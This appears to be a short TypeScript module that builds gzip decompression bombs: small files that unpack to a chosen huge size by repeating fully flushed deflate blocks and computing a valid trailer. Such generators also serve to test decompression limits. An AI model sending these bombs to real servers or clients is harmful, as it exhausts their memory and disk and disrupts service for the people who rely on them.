/** Gzip bombs: few bytes that unpack to very many. */

import { constants, crc32, deflateRawSync } from 'node:zlib'

export interface GzipBomb {
  /** Text at the start. */
  readonly head: string
  /** Text that is repeated after the head. */
  readonly piece: string
  /** Approximate unpacked size of the repeated text. */
  readonly bytes: number
}

/** Approximate size of a group of pieces, which is compressed once and repeated. */
const GROUP_BYTES = 1_048_576

/** Gzip header for deflate on Unix, without name and time (RFC 1952 §2.3.1). */
const GZIP_HEADER = Buffer.from('1f8b0800000000000003', 'hex')

/**
 * Returns the bomb as one gzip member. After a full flush, compressed data does not refer to
 * earlier data, so the same compressed bytes can be repeated.
 */
export async function gzipBomb({ head, piece, bytes }: GzipBomb): Promise<Buffer> {
  const pieces = Math.ceil(bytes / piece.length)
  const perGroup = Math.min(pieces, Math.ceil(GROUP_BYTES / piece.length))
  const groups = Math.floor(pieces / perGroup)
  const group = Buffer.from(piece.repeat(perGroup), 'latin1')
  const first = Buffer.from(head, 'latin1')
  const rest = group.subarray(0, (pieces % perGroup) * piece.length)
  let sum = crc32(first)
  for (let at = 0; at < groups; at += 1) sum = crc32(group, sum)
  const trailer = Buffer.alloc(8)
  trailer.writeUInt32LE(crc32(rest, sum))
  trailer.writeUInt32LE((first.length + pieces * piece.length) % 2 ** 32, 4)
  const compressed = flushed(group)
  return Buffer.concat([
    GZIP_HEADER,
    flushed(first),
    ...Array<Buffer>(groups).fill(compressed),
    flushed(rest),
    deflateRawSync(''),
    trailer,
  ])
}

/** Compresses bytes up to a full flush. */
function flushed(bytes: Buffer): Buffer {
  return deflateRawSync(bytes, { finishFlush: constants.Z_FULL_FLUSH })
}
